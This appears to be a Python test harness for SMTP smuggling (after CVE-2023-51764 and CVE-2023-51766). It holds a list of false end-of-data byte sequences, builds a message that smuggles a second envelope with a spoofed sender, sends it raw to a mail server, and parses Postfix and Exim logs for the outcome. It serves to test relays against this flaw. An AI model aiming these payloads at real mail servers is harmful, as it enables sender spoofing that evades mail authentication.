"""Smuggling as others see it: what is sent, what a server in front says it took, and how the laxest one behind reads.

Sources: SEC Consult's "SMTP Smuggling" (December 2023), CVE-2023-51764 (Postfix), CVE-2023-51766 (Exim).
"""

import re
import socket
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

FALSE_ENDS: Final = (
    *(b"\n.\n", b"\n.\r\n", b"\r.\r", b"\r.\n", b"\r.\r\n", b"\n.\r", b"\r\n.\n", b"\r\n.\r"),  # SM-01
    *(b"\r\n\0.\r\n", b"\r\n.\0\r\n"),  # SM-02
    *(b"\r\n.\r\r\n", b"\r\r\n.\r\r\n"),  # SM-03
)
LAXEST_END: Final = re.compile(rb"[\r\n]\0?\.\0?[\r\n]")  # whoever ends a message at any of the above does so here
BARE: Final = re.compile(rb"\r(?!\n)|(?<!\r)\n")
STUFFED: Final = (b"\r\n..\r\n", b"\r\n..\r\n..\r\n", b"\r\n..x\r\n...\r\n")  # honest dots, stuffed by the client
ONLY_REPAIRED: Final = (b"\n..\n", b"\r..\r", b"\n..\r", b"\r\n..\n", b"\r\r..\r\r\n", b"\n.x\n..\r\n", b"\n \n.\t\r")
READ_S: Final = 30


@dataclass(frozen=True, slots=True)
class Attack:
    """A message that means to be two. outer, inner: the sender of the honest one, and of the one that is smuggled."""

    outer: str
    inner: str
    recipient: str
    data: bytes

    @classmethod
    def make(cls, number: int, end: bytes, domain: str) -> "Attack":
        outer, inner = f"clerk-{number}@clinic.example", f"boss-{number}@clinic.example"
        recipient = f"v{number}@{domain}"
        envelope = f"MAIL FROM:<{inner}>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n"
        data = _message(outer, recipient) + end + envelope.encode() + _message(inner, recipient)
        return cls(outer, inner, recipient, data + b"\r\n.\r\n")

    def send(self, address: str, port: int) -> bytes:
        """Byte for byte to a server that needs no TLS, until it hangs up. Returns: what it said after the 354."""
        with (
            socket.create_connection((address, port), timeout=READ_S) as connection,
            connection.makefile("rb") as replies,
        ):
            last = _read_reply(replies.readline)
            for command in ("EHLO client.example", f"MAIL FROM:<{self.outer}>", f"RCPT TO:<{self.recipient}>", "DATA"):
                connection.sendall(command.encode() + b"\r\n")
                last = _read_reply(replies.readline)
            assert last.startswith(b"354"), last
            connection.sendall(self.data + b"QUIT\r\n")
            return replies.read()


@dataclass(frozen=True, slots=True)
class Front:
    """A mail server that passes everything on to us, and what its log says; patterns have one group.

    took: the sender of a message that it took from a client. arrived, gone: its own id of any message, when it came and
    when it was done with. queued: our id in the reply that it got. refused: its word for our refusal.
    """

    name: str
    address: str
    port: int
    log: Callable[[], str]
    took: str
    arrived: str
    gone: str
    queued: str
    refused: str

    def is_idle(self) -> bool:
        return set(self.find(self.arrived)) == set(self.find(self.gone))

    def find(self, pattern: str) -> list[str]:
        return re.findall(pattern, self.log(), re.MULTILINE)


POSTFIX_SAYS: Final = {
    "took": r"qmgr\[\d+\]: \w+: from=<(.+?)>, size=",
    "arrived": r"cleanup\[\d+\]: (\w+): message-id=",
    "gone": r"qmgr\[\d+\]: (\w+): removed",
    "queued": r"status=sent \(250 2\.0\.0 Queued as (\w+)\)",
    "refused": r"status=bounced \(host \S+ said: (554 5\.6\.0) ",
}
EXIM_SAYS: Final = {
    "took": r" <= ([^<>\s]+) ",
    "arrived": r" (\S+) <= ",
    "gone": r" (\S+) Completed",
    "queued": r'C="250 2\.0\.0 Queued as (\w+)"',
    "refused": r" \*\* .*: (554 5\.6\.0) ",
}


def _message(sender: str, recipient: str) -> bytes:
    return f"From: {sender}\r\nTo: {recipient}\r\nSubject: Room booking\r\n\r\nwritten by {sender}".encode()


def _read_reply(read_line: Callable[[], bytes]) -> bytes:
    while (line := read_line())[3:4] == b"-":
        pass
    return line
